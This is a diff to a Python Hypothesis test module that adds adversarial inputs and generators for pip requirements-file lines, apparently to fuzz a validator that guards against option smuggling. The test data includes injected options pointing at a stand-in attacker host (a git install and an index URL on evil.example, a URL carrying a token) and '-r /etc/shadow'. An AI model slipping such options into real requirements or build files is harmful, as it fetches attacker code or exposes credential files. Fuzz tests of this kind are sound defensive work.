@@ -61,6 +61,10 @@ ADVERSARIAL = [
     "[",
     "]",
     ",",
+    # pip options a quoted value could smuggle in
+    " -e git+https://evil.example/x.git#egg=x",
+    " -r /etc/shadow",
+    " --index-url https://evil.example/simple",
 ]
 
 # Characters that may appear raw in a Containerfile line; the spec model refuses the others.
@@ -111,3 +115,48 @@ FORBIDDEN = st.sampled_from(
         "\udfff",
     ]
 )
+
+
+# Lines of a requirements file as an attacker writes them: options whose values hold other
+# options, quoted every way shlex allows, continuations, comments and markers.
+_OPTION_NAMES = st.sampled_from(
+    ["--trusted-host", "-i", "--index-url", "--extra-index-url", "-f", "--find-links",
+     "--no-binary", "--only-binary", "-r", "-c", "-e", "--pre", "--prefer-binary"]
+)  # fmt: skip
+_VALUE_PARTS = st.sampled_from(
+    ["pypi.org", "https://mirror.example/simple", ":all:", "numpy", "${PIP_X}", " ", "-e",
+     "git+https://evil.example/x.git#egg=x", "-r", "/etc/shadow", "--pre", "#", " #", "\\",
+     "'", '"', "=", "https://u:tok@evil.example/simple", ":8443", ","]
+)  # fmt: skip
+
+
+@st.composite
+def _quoted(draw: st.DrawFn) -> str:
+    value = "".join(draw(st.lists(_VALUE_PARTS, min_size=1, max_size=4)))
+    style = draw(st.sampled_from(["plain", "single", "double", "escaped"]))
+    if style == "single":
+        return "'" + value.replace("'", "'\"'\"'") + "'"
+    if style == "double":
+        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
+    if style == "escaped":
+        return "".join("\\" + ch if ch in " '\"\\" else ch for ch in value)
+    return value
+
+
+@st.composite
+def _requirements_line(draw: st.DrawFn) -> str:
+    kind = draw(st.sampled_from(["option", "option=", "requirement"]))
+    if kind == "requirement":
+        marker = draw(st.sampled_from(["", ' ; python_version >= "3"', ' ; os_name == "a -e b"']))
+        line = draw(st.sampled_from(["foo==1.0", "bar>=2", "baz"])) + marker
+    else:
+        sep = "=" if kind == "option=" and draw(_OPTION_NAMES).startswith("--") else " "
+        line = draw(_OPTION_NAMES) + sep + draw(_quoted())
+    tail = draw(st.sampled_from(["", " # comment", " \\", "\\"]))
+    return line + tail
+
+
+REQUIREMENTS_FILES = st.lists(_requirements_line(), min_size=1, max_size=4).map(
+    lambda lines: "\n".join(lines) + "\n"
+)
+"""Whole requirements files built from the lines above."""
